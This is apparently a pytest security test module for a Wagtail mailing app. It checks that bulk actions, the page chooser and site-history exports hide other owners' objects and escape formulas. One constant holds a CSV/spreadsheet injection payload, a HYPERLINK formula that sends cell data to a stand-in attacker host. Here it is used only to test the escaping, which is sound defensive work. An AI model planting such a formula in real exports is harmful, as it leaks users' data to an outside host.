"""Issue 11, findings 1 and 2: Wagtail's generic views show only what the policy allows.

Bulk-action confirmations, the page chooser and page bulk actions, the site history
report and its exports. Each request names objects of both owners (or a draft page)
the way the outside probe did.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.log_actions import log

from mailing.models import Attempt, Client, Mailing, Message
from tests.factories import make_blog_index, make_client, make_post, make_user
from tests.security.conftest import owned_objects, signed_in

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture
def owners():
    a, b = make_user(email="a@example.com"), make_user(email="b@example.com")
    return a, b, owned_objects(a, "Alpha-Secret"), owned_objects(b, "Bravo-Own")


def bulk_url(model, action, *objects) -> str:
    meta = model._meta
    ids = "&".join(f"id={obj.pk}" for obj in objects)
    return f"/admin/bulk/{meta.app_label}/{meta.model_name}/{action}/?{ids}"


# --- Finding 1: bulk-action confirmations ------------------------------------------


def test_finding1_bulk_delete_confirmation_lists_only_own_clients(owners):
    a, b, of_a, of_b = owners
    page = signed_in(b).get(bulk_url(Client, "delete", of_a[Client], of_b[Client]))

    assert page.status_code == 200
    body = page.content.decode()
    assert "Bravo-Own" in body
    assert "Alpha-Secret" not in body


@pytest.mark.parametrize("model", [Client, Message, Mailing, Attempt])
def test_finding1_bulk_confirmations_show_no_foreign_object(owners, model):
    a, b, of_a, of_b = owners
    for viewer in (b, make_user("editor")):
        page = signed_in(viewer).get(bulk_url(model, "delete", of_a[model]))
        # Nothing the viewer may see: as if the ids did not exist.
        assert page.status_code == 404, (viewer, model)
        assert "Alpha-Secret" not in page.content.decode()


def test_finding1_a_manager_sees_every_owner_but_deletes_nothing(owners):
    a, b, of_a, of_b = owners
    http = signed_in(make_user("manager"))
    url = bulk_url(Client, "delete", of_a[Client], of_b[Client])

    page = http.get(url)
    http.post(url)

    # Listed among those the viewer may not delete, which a manager may see.
    assert page.status_code == 200
    assert Client.objects.filter(pk__in=[of_a[Client].pk, of_b[Client].pk]).count() == 2


def test_finding1_bulk_delete_with_foreign_ids_changes_nothing(owners):
    a, b, of_a, of_b = owners
    http = signed_in(b)

    http.post(bulk_url(Client, "delete", of_a[Client], of_b[Client]))

    assert Client.objects.filter(pk=of_a[Client].pk).exists()
    assert not Client.objects.filter(pk=of_b[Client].pk).exists()


def test_finding1_bulk_delete_of_all_lists_only_own_rows(owners):
    a, b, of_a, of_b = owners
    page = signed_in(b).get("/admin/bulk/mailing/client/delete/?id=all")

    assert "Bravo-Own" in page.content.decode()
    assert "Alpha-Secret" not in page.content.decode()


@pytest.fixture
def draft():
    blog = make_blog_index(title="Blog-Index-Title", slug="blog")
    return make_post(blog, title="Draft-Unreleased-Title", publish=False)


@pytest.mark.parametrize("role", ["mailing_user", "manager"])
@pytest.mark.parametrize("action", ["publish", "unpublish", "delete", "move"])
def test_finding1_page_bulk_actions_show_mailing_roles_no_page_title(
    draft, role, action
):
    page = signed_in(make_user(role)).get(
        f"/admin/bulk/wagtailcore/page/{action}/?id={draft.pk}"
    )

    assert "Draft-Unreleased-Title" not in page.content.decode()
    assert page.status_code == 404


def test_finding1_page_bulk_publish_still_lists_the_editors_pages(draft):
    page = signed_in(make_user("editor")).get(
        f"/admin/bulk/wagtailcore/page/publish/?id={draft.pk}"
    )

    assert page.status_code == 200
    assert "Draft-Unreleased-Title" in page.content.decode()


@pytest.mark.parametrize("role", ["mailing_user", "manager"])
def test_finding1_page_chooser_shows_mailing_roles_no_page_title(draft, role):
    http = signed_in(make_user(role))
    parent = draft.get_parent()
    root_listing = http.get(reverse("wagtailadmin_choose_page"))
    listings = [
        http.get(reverse("wagtailadmin_choose_page_child", args=[parent.pk])),
        http.get(reverse("wagtailadmin_choose_page_child", args=[draft.pk])),
        http.get(reverse("wagtailadmin_choose_page_search"), {"q": "Draft"}),
        # Opened at the common ancestor of the page type asked for: the blog.
        http.get(reverse("wagtailadmin_choose_page"), {"page_type": "blog.blogpage"}),
        http.get(reverse("wagtailadmin_choose_page_chosen_multiple"), {"id": draft.pk}),
    ]

    # The modal still opens (its other tabs make external and email links).
    assert root_listing.status_code == 200
    assert "Blog-Index-Title" not in root_listing.content.decode()
    for response in listings:
        assert "Draft-Unreleased-Title" not in response.content.decode()
        # A 404 (the admin's 404 page) names no page.
        assert response.status_code == 404 or (
            "Blog-Index-Title" not in response.content.decode()
        )


def test_finding1_page_chooser_still_serves_editors(draft):
    response = signed_in(make_user("editor")).get(
        reverse("wagtailadmin_choose_page_child", args=[draft.get_parent().pk])
    )

    assert "Draft-Unreleased-Title" in response.json()["html"]


# --- Finding 2: the site history report and its exports ----------------------------


@pytest.fixture
def history(owners):
    a, b, of_a, of_b = owners
    manager = make_user("manager", email="boss@example.com")
    formula_client = make_client(a, email="f@example.org", full_name=FORMULA)
    for obj in (*of_a.values(), formula_client):
        log(obj, "wagtail.create", user=a)
    for obj in of_b.values():
        log(obj, "wagtail.create", user=b)
    log(of_a[Mailing], "mailing.disable", user=manager)
    return a, b, manager


def report(user, **params):
    return signed_in(user).get("/admin/reports/site-history/", params)


def rows_of(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(content)))


def test_finding2_site_history_shows_a_mailing_user_only_their_own_objects(history):
    a, b, manager = history
    body = report(b).content.decode()

    assert "Bravo-Own" in body
    assert "Alpha-Secret" not in body
    assert "boss@example.com" not in body
    assert "a@example.com" not in body


def test_finding2_site_history_csv_export_is_filtered(history):
    a, b, manager = history
    cells = {cell for row in rows_of(report(b, export="csv")) for cell in row}

    assert any("Bravo-Own" in cell for cell in cells)
    assert not any("Alpha-Secret" in cell for cell in cells)


def test_finding2_site_history_shows_the_owner_moderation_of_their_own_mailing(
    history,
):
    a, b, manager = history
    body = report(a).content.decode()

    assert "Alpha-Secret news" in body
    assert "Bravo-Own" not in body


def test_finding2_managers_see_every_owner_in_the_site_history(history):
    a, b, manager = history
    body = report(manager).content.decode()

    assert "Alpha-Secret" in body and "Bravo-Own" in body


def test_finding2_site_history_csv_escapes_formulas(history):
    a, b, manager = history
    rows = rows_of(report(a, export="csv"))

    labels = [row[1] for row in rows[1:]]
    assert f"'{FORMULA} <f@example.org>" in labels
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


def test_finding2_site_history_xlsx_escapes_formulas(history):
    a, b, manager = history
    response = report(a, export="xlsx")
    sheet = load_workbook(io.BytesIO(response.getvalue())).active

    labels = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert f"'{FORMULA} <f@example.org>" in labels


def test_finding2_editors_see_no_mailing_history(history):
    body = report(make_user("editor")).content.decode()

    assert "Alpha-Secret" not in body and "Bravo-Own" not in body


def test_finding2_client_csv_export_escapes_formulas(owners):
    a, b, of_a, of_b = owners
    make_client(a, email="f@example.org", full_name=FORMULA)

    rows = rows_of(signed_in(a).get("/admin/mailing/clients/?export=csv"))

    assert "'" + FORMULA in {row[1] for row in rows[1:]}
    assert not any(c.startswith(("=", "+", "-", "@")) for row in rows for c in row)
